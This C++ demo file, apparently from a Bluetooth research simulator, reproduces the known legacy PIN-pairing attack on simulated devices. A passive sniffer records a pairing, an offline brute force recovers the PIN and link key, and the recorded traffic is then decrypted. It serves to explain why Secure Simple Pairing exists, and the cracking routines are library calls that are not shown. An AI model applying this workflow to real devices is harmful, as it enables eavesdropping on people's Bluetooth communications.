// legacy_pin_crack.cpp — why SSP exists: cracking a sniffed legacy pairing.
//
//   $ ./legacy_pin_crack [pin]
//
// The paper's background (§II-C1) notes legacy PIN pairing was "recognized
// as vulnerable to diverse attacks" (refs [14] btpincrack, [15] Shaked-Wool)
// — this demo reproduces that attack on the simulator: a passive air sniffer
// records one legacy pairing + authentication, and an offline brute force
// recovers both the PIN and the link key in milliseconds. Afterwards, the
// same sniffer's ciphertext is decrypted retroactively with the cracked key
// (the §IV-C "past communications" capability).
#include <chrono>
#include <cstdio>
#include <string>

#include "core/air_analysis.hpp"
#include "core/device.hpp"

int main(int argc, char** argv) {
  using namespace blap;
  using namespace blap::core;

  const std::string pin = argc > 1 ? argv[1] : "8461";
  if (pin.size() > 6) {
    std::fprintf(stderr, "demo supports PINs of up to 6 digits\n");
    return 2;
  }

  Simulation sim(99);
  AirSniffer sniffer(sim.medium());

  DeviceSpec phone;
  phone.name = "old-phone";
  phone.address = *BdAddr::parse("00:0d:11:22:33:44");
  phone.host.simple_pairing = false;  // pre-2.1 stack: legacy pairing only
  phone.host.pin_code = pin;
  DeviceSpec headset = phone;
  headset.name = "old-headset";
  headset.address = *BdAddr::parse("00:0d:55:66:77:88");
  headset.class_of_device = ClassOfDevice(ClassOfDevice::kHandsFree);

  Device& m = sim.add_device(phone);
  Device& c = sim.add_device(headset);

  std::printf("Victims pair with PIN \"%s\" while a passive sniffer listens...\n", pin.c_str());
  bool done = false;
  m.host().pair(c.address(), [&](hci::Status status) {
    done = status == hci::Status::kSuccess;
  });
  sim.run_for(20 * kSecond);
  if (!done) {
    std::printf("pairing failed\n");
    return 1;
  }
  bool echoed = false;
  m.host().send_echo(c.address(), [&] { echoed = true; });
  sim.run_for(kSecond);

  std::printf("Sniffer captured %zu air frames.\n\n", sniffer.frames().size());

  auto capture = parse_legacy_pairing(sniffer.frames());
  if (!capture) {
    std::printf("no legacy pairing found in the capture\n");
    return 1;
  }
  std::printf("Reconstructed pairing transcript:\n");
  std::printf("  IN_RAND        : %s\n", hex(capture->in_rand).c_str());
  std::printf("  comb (init)    : %s\n", hex(capture->masked_comb_initiator).c_str());
  std::printf("  comb (resp)    : %s\n", hex(capture->masked_comb_responder).c_str());
  std::printf("  AU_RAND / SRES : %s / %s\n\n", hex(capture->au_rand).c_str(),
              hex(capture->sres).c_str());

  const auto start = std::chrono::steady_clock::now();
  const auto result = crack_pin(*capture, 6);
  const auto elapsed = std::chrono::duration_cast<std::chrono::milliseconds>(
                           std::chrono::steady_clock::now() - start)
                           .count();
  if (!result.found) {
    std::printf("PIN not found within 6 digits\n");
    return 1;
  }
  // The wall-clock time goes to stderr so stdout stays deterministic.
  std::fprintf(stderr, "cracked in %lld ms\n", static_cast<long long>(elapsed));
  std::printf("CRACKED after %llu guesses:\n", static_cast<unsigned long long>(result.attempts));
  std::printf("  PIN      = %s\n", result.pin.c_str());
  std::printf("  link key = %s\n", hex(result.link_key).c_str());
  std::printf("  (matches the victims' bond: %s)\n\n",
              result.link_key == *m.host().security().link_key_for(c.address()) ? "yes" : "no");

  const auto decrypted = decrypt_captured_traffic(sniffer.frames(), result.link_key);
  if (decrypted && echoed) {
    std::printf("Retroactive decryption of the recorded ciphertext (%zu payloads):\n",
                decrypted->size());
    for (const auto& payload : *decrypted) {
      std::printf("  t=%8llu us  %s  %s\n",
                  static_cast<unsigned long long>(payload.timestamp_us),
                  payload.sender.to_string().c_str(), hex_pretty(payload.plaintext).c_str());
    }
  }
  return 0;
}
